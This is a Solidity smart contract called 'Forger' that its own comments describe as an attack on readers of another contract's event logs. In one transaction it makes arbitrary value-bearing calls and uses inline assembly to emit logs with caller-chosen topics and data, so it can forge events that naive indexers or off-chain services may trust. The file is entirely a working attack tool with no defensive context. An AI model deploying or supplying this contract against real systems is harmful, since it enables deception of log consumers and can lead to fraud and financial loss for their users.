// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import { Address } from "@openzeppelin/contracts/utils/Address.sol";

/**
 * @title Forger
 * @notice Writes any logs and makes any calls in one transaction: an attack on readers of another contract's logs.
 */
contract Forger {
    /**
     * @notice Describes a call or a log.
     * @param target Contract that is called; zero to write a log.
     * @param value Wei of the call.
     * @param topics Topics of the log, at most 4.
     * @param data Data of the call or the log.
     */
    struct Step {
        address target;
        uint256 value;
        bytes32[] topics;
        bytes data;
    }

    constructor(Step[] memory steps) payable {
        _run(steps);
    }

    function run(Step[] memory steps) external payable {
        _run(steps);
    }

    function _run(Step[] memory steps) private {
        for (uint256 i = 0; i < steps.length; ++i) {
            Step memory step = steps[i];
            if (step.target == address(0)) _log(step.topics, step.data);
            else Address.functionCallWithValue(step.target, step.data, step.value);
        }
    }

    function _log(bytes32[] memory topics, bytes memory data) private {
        // Assembly: Solidity has no statement for a log whose topics are data. Topics that are missing are not read.
        assembly ("memory-safe") {
            let start := add(data, 0x20)
            let length := mload(data)
            let first := add(topics, 0x20)
            switch mload(topics)
            case 0 {
                log0(start, length)
            }
            case 1 {
                log1(start, length, mload(first))
            }
            case 2 {
                log2(start, length, mload(first), mload(add(first, 0x20)))
            }
            case 3 {
                log3(start, length, mload(first), mload(add(first, 0x20)), mload(add(first, 0x40)))
            }
            default {
                log4(
                    start,
                    length,
                    mload(first),
                    mload(add(first, 0x20)),
                    mload(add(first, 0x40)),
                    mload(add(first, 0x60))
                )
            }
        }
    }

    /// @notice Takes the value that a call returns.
    receive() external payable {}
}
